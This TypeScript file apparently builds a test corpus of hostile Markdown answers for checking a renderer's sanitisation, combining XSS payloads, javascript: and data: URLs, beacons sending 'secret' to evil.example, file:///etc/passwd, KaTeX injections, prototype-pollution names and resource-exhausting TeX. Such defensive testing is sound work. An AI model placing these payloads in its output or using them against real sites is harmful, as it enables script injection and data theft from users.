/** Answers that would attack a careless page: payloads in every place where Markdown allows one. */

/** HTML that runs scripts, makes requests, frames, restyles or redirects. */
const HTML = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/?q=secret">',
  '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
  '<math href="javascript:alert(1)">x</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<video src="https://evil.example/v" autoplay onplay=alert(1)></video>',
  "<audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<a href="javascript:alert(1)">x</a>',
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<button formaction="javascript:alert(1)">x</button>',
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php alert(1) ?>",
  "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
];

/** Addresses that run scripts or leak information. */
const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java&#10;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "javascript:/*--></title></style>*/alert(1)//",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "ftp://evil.example/x",
  "//evil.example/x",
  "/\\evil.example/x",
  "intent://evil.example#Intent;end",
  "https://evil.example/?q=secret",
];

/** Places for HTML. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `A word, ${payload} and another.`,
  (payload) => `> ${payload}`,
  (payload) => `- ${payload}\n- two`,
  (payload) => `| a | b |\n| --- | --- |\n| ${payload.replaceAll("|", "")} | x |`,
  (payload) => `**${payload}**`,
  (payload) => `# ${payload}`,
  (payload) => `\`${payload}\` and ${payload}`,
  (payload) => `<details><summary>${payload}</summary>\n\n${payload}\n\n</details>`,
  (payload) => `A word[^1].\n\n[^1]: ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `\`\`\`"><img src=x onerror=alert(1)>\n${payload}`,
];

/** Places for an address. */
const LINKS: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "onmouseover=alert(1)")`,
  (address) => `![secret](${address})`,
  (address) => `[![secret](${address})](${address})`,
  (address) => `[x][1]\n\n[1]: ${address}`,
  (address) => `![x][1]\n\n[1]: ${address} 'title'`,
  (address) => `<${address}>`,
  (address) => `see ${address} there`,
  (address) => `| ![x](${address}) |\n| --- |\n| [y](${address}) |`,
];

const MATHS = [
  "\\href{javascript:alert(1)}{x}",
  "\\url{javascript:alert(1)}",
  "\\includegraphics{https://evil.example/x.png}",
  "\\htmlData{x=alert(1)}{x}",
  "\\htmlStyle{background:url(https://evil.example/)}{x}",
  "\\htmlId{x}{x}",
  '\\htmlClass{"onclick=alert(1)}{x}',
  "<img src=x onerror=alert(1)>",
  "\\text{<script>alert(1)</script>}",
  "\\def\\x{\\x\\x}\\x",
  "\\rule{1000000em}{1000000em}",
  "\\color{red;background:url(https://evil.example/)}x",
];

const FORMULAS: ((source: string) => string)[] = [
  (source) => `$$\n${source}\n$$`,
  (source) => `\\(${source}\\)`,
  (source) => `\\[${source}\\]`,
  (source) => `so $${source}$ it is`,
];

const ODD = [
  "[x](javascript:alert(1)//\u202e)",
  "\u202e<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "[a]: javascript:alert(1)\n\n[a] [a][] ![a]",
  "__proto__ [constructor]: javascript:alert(1)",
  "[__proto__]: javascript:alert(1)\n\n[__proto__]",
  "[constructor]\n\n[constructor]: https://evil.example/",
  '1. <b onmouseover="alert(1)">x</b>',
  "- [x] <img src=x onerror=alert(1)>",
  "- [ ](javascript:alert(1))",
  '<https://evil.example/"onmouseover=alert(1)>',
  '[x](https://evil.example/"><script>alert(1)</script>)',
  "~~<svg/onload=alert(1)>~~",
  "<details onclick=alert(1) open=javascript:alert(1)><summary onfocus=alert(1) tabindex=1>x</summary>x</details>",
  "<details/onclick=alert(1)>x</details>",
  '[^"onclick="alert(1)]: x\n\n[^"onclick="alert(1)]',
  "[^<img/src=x/onerror=alert(1)>] x\n\n[^<img/src=x/onerror=alert(1)>]: y",
  "[^javascript:alert(1)]: javascript:alert(1)\n\n[^javascript:alert(1)]",
  "[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y",
];

const all = [
  ...HTML.flatMap((payload) => PLACES.map((place) => place(payload))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...MATHS.flatMap((source) => FORMULAS.map((formula) => formula(source))),
  ...ODD,
];

/** Each of them once. */
export const hostile: string[] = [...new Set(all)];
